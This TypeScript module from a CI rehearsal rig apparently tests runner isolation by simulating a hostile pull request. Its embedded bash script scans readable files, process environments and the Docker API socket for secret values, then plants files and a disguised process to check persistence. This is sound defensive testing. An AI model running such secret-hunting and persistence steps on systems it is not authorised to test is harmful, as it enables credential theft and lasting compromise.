import * as fs from "node:fs";
import * as path from "node:path";
import { paths, stateDir } from "./config";
import { RunResult } from "./exec";
import { readCredentials } from "./registry";
import { sshRun } from "./ssh";

/*
 * `wepppy-cicd rig attack-runner`: a hostile pull request on forest. As each CI runner's
 * account (what a PR job runs as) it searches every file it can read, every process
 * environment it can read and every Unix socket it can connect to for the values of the
 * secrets of all three stacks, then plants files (and a process) for the next job to find,
 * lets the runner's job hooks run as the runner runs them between two jobs, and looks
 * whether anything it planted survived.
 *
 * The values searched for travel on the script's stdin, never on a command line, and are
 * kept in a file only the account can read while it searches, then removed.
 *
 * The CLI (cli/rig.ts, the lead's) would call it as:
 *
 *   const cfg = parseStackConfig("dev", <the dev rehearsal's config>).runner;
 *   const accounts = runnerIdentities(cfg).filter((r) => r.zone === "ci").map((r) => r.user);
 *   const result = await attackRunner({ root: cfg.root, accounts, secrets: rigSecrets() });
 *   print(json ? JSON.stringify({ found: result.found, plantedSurvived: result.plantedSurvived }) : table)
 */

export interface RunnerSecret {
  /** The stack it belongs to (dev, testprod, prod), or "rig" for the rig's own stand-ins of operator secrets. */
  stack: string;
  name: string;
  value: string;
}

export interface AttackFinding {
  account: string;
  /** file:<path>, environ:<pid>, or docker:<container> (a container's environment, through the Docker API). */
  where: string;
  stack: string;
  secret: string;
}

export interface AttackResult {
  found: AttackFinding[];
  plantedSurvived: boolean;
  planted: { account: string; what: string; survived: boolean }[];
  /** Unix sockets each account could connect to; docker: the Docker API answered (root on the host). */
  sockets: { account: string; path: string; docker: boolean }[];
}

export interface AttackOptions {
  host?: string;
  /** The runners' root on the host (runner.root). */
  root: string;
  /** The CI runners' accounts. */
  accounts: string[];
  secrets: RunnerSecret[];
  /** Runs a script on the host as the deploy user, with stdin (default: the rig's SSH). */
  run?: (host: string, script: string, input: string) => Promise<RunResult>;
}

/** Values worth searching for: long enough not to match by chance; a key by its longest base64 line. */
export function needles(secrets: RunnerSecret[]): { index: number; text: string }[] {
  const out: { index: number; text: string }[] = [];
  secrets.forEach((s, index) => {
    const lines = s.value.split("\n").map((l) => l.trim()).filter((l) => !l.startsWith("-----"));
    const text = lines.sort((a, b) => b.length - a.length)[0] ?? "";
    if (text.length >= 8) out.push({ index, text });
  });
  return out;
}

/**
 * The attack, as one account. stdin: the needles, one per line, then a line "--", then
 * nothing else. It prints FOUND/SOCKET/PLANT lines.
 */
export function attackScript(root: string): string {
  return `set -u
# A job has Node.js (the runner's externals, actions/setup-node); without it the attack would see less, so it stops.
command -v node >/dev/null || { echo "attack: no node on PATH" >&2; exit 3; }
me="$(id -un)"
work="$(mktemp -d)"
needles="\${work}/n"
while IFS= read -r line; do [ "\${line}" = "--" ] && break; printf '%s\\n' "\${line}" >> "\${needles}"; done
chmod 0600 "\${needles}"
report() { printf '%s\\t%s\\t%s\\n' "$1" "$2" "$3"; }
match() { # file -> the needle line numbers it contains
  grep -aoFf "\${needles}" -- "$1" 2>/dev/null | sort -u | while IFS= read -r hit; do grep -nxF -- "\${hit}" "\${needles}" | cut -d: -f1; done
}
# Every readable file.
find / -xdev \\( -path /proc -o -path /sys -o -path /dev -o -path "\${work}" \\) -prune -o -type f -readable -size -20M -print 2>/dev/null |
  while IFS= read -r f; do
    for n in $(match "\${f}"); do report FOUND "file:\${f}" "\${n}"; done
  done
# Every readable process environment.
for e in /proc/[0-9]*/environ; do
  [ -r "\${e}" ] || continue
  tr '\\0' '\\n' < "\${e}" > "\${work}/env" 2>/dev/null || continue
  for n in $(match "\${work}/env"); do report FOUND "environ:$(basename "$(dirname "\${e}")")" "\${n}"; done
done
# Every Unix socket it can connect to; the Docker API, where one answers, for containers' environments.
awk 'NR > 1 && $8 ~ /^\\// {print $8}' /proc/net/unix | sort -u | while IFS= read -r s; do
  if curl -s -m 2 --unix-socket "\${s}" http://localhost/version -o "\${work}/v" 2>/dev/null; then
    if grep -q '"ApiVersion"' "\${work}/v" 2>/dev/null; then
      report SOCKET "\${s}" 1
      curl -s -m 5 --unix-socket "\${s}" 'http://localhost/containers/json?all=1' | node -e 'let t = ""; process.stdin.on("data", (d) => (t += d)).on("end", () => { try { for (const c of JSON.parse(t)) console.log(c.Id); } catch {} })' | while IFS= read -r c; do
        curl -s -m 5 --unix-socket "\${s}" "http://localhost/containers/\${c}/json" > "\${work}/c"
        for n in $(match "\${work}/c"); do report FOUND "docker:\${c:0:12}" "\${n}"; done
      done
    else
      report SOCKET "\${s}" 0
    fi
  fi
done
rm -rf -- "\${work}"
# Plant for the next job: the workspace, the home, the temporary directory, a process.
dir=""
for d in ${root}/runners/*/; do [ "$(cat "\${d}.wepppy-user" 2>/dev/null)" = "\${me}" ] && dir="\${d%/}"; done
home="${root}/home/\${me}"
mark="planted-$$"
planted=("\${home}/.\${mark}" "/tmp/\${mark}")
[ -n "\${dir}" ] && planted+=("\${dir}/_work/\${mark}")
for p in "\${planted[@]}"; do mkdir -p "$(dirname "\${p}")" 2>/dev/null; echo "next job: run me" > "\${p}" 2>/dev/null; done
(setsid bash -c "exec -a \${mark} sleep 600" </dev/null >/dev/null 2>&1 &)
sleep 1
# Between two jobs the runner runs its hooks, as this account, in this order.
if [ -n "\${dir}" ]; then
  zone="$(cat "\${dir}/.wepppy-zone" 2>/dev/null)"
  WEPPPY_RUNNER_ZONE="\${zone}" bash ${root}/bin/job-completed.sh >/dev/null 2>&1
  WEPPPY_RUNNER_ZONE="\${zone}" bash ${root}/bin/job-started.sh >/dev/null 2>&1
fi
for p in "\${planted[@]}"; do if [ -e "\${p}" ]; then report PLANT "\${p}" 1; rm -f "\${p}"; else report PLANT "\${p}" 0; fi; done
if pgrep -u "\${me}" -f "^\${mark}" >/dev/null; then report PLANT "process \${mark}" 1; pkill -u "\${me}" -f "^\${mark}"; else report PLANT "process \${mark}" 0; fi
`;
}

export async function attackRunner(opts: AttackOptions): Promise<AttackResult> {
  const host = opts.host ?? "forest";
  const run = opts.run ?? ((h: string, script: string, input: string) => sshRun(h, { script }, { input, timeoutMs: 900_000 }));
  if (!/^\/[A-Za-z0-9._/-]+$/.test(opts.root)) throw new Error(`runner root ${opts.root}: not a plain absolute path`);
  const wanted = needles(opts.secrets);
  const result: AttackResult = { found: [], plantedSurvived: false, planted: [], sockets: [] };
  const script = attackScript(opts.root);
  for (const account of opts.accounts) {
    if (!/^[a-z_][a-z0-9_-]{0,31}$/.test(account)) throw new Error(`${account}: not an account name`);
    // The script and the needles both arrive on stdin: `bash -s` reads the script up to its
    // last line, the needles follow for its `read`.
    const input = `${wanted.map((n) => n.text).join("\n")}\n--\n`;
    const r = await run(host, `sudo -n runuser -u ${account} -- bash -c ${shq(script)}`, input);
    if (r.code !== 0 && r.stdout.trim() === "") throw new Error(`attack as ${account} failed on ${host}: exit ${r.code}: ${r.stderr.trim().split("\n").slice(-5).join(" ")}`);
    for (const line of r.stdout.split("\n")) {
      const [kind, where, value] = line.split("\t");
      if (kind === "FOUND") {
        const needle = wanted[Number(value) - 1];
        if (!needle) continue;
        const secret = opts.secrets[needle.index];
        result.found.push({ account, where, stack: secret.stack, secret: secret.name });
      } else if (kind === "PLANT") {
        result.planted.push({ account, what: where, survived: value === "1" });
      } else if (kind === "SOCKET") {
        result.sockets.push({ account, path: where, docker: value === "1" });
      }
    }
  }
  result.plantedSurvived = result.planted.some((p) => p.survived);
  return result;
}

function shq(text: string): string {
  return `'${text.replace(/'/g, `'\\''`)}'`;
}

/**
 * The rig's values of every secret of the three stacks, from what the rehearsals left
 * (generated passwords, in .rig/rehearsals/<stack>.json), the rig registry's password (every
 * stack's registry.password on the rig), the rig's deploy key (every stack's deployKey), and
 * the placeholders the runner rehearsal sets for the tokens.
 */
export function rigSecrets(placeholders: RunnerSecret[] = []): RunnerSecret[] {
  const out: RunnerSecret[] = [...placeholders];
  const dir = path.join(stateDir, "rehearsals");
  for (const stack of ["dev", "testprod", "prod"]) {
    const file = path.join(dir, `${stack}.json`);
    if (!fs.existsSync(file)) continue;
    const state = JSON.parse(fs.readFileSync(file, "utf8")) as { resources: Record<string, { type: string; name: string; state: Record<string, unknown> }> };
    for (const r of Object.values(state.resources)) {
      if (r.type === "random:index/randomPassword:RandomPassword" && typeof r.state.result === "string") {
        out.push({ stack, name: r.name, value: r.state.result });
      }
    }
  }
  try {
    out.push({ stack: "rig", name: "registry.password", value: readCredentials().password });
  } catch {
    // no rig registry: nothing to add
  }
  if (fs.existsSync(paths.clientKey())) out.push({ stack: "rig", name: "deployKey", value: fs.readFileSync(paths.clientKey(), "utf8") });
  return out;
}
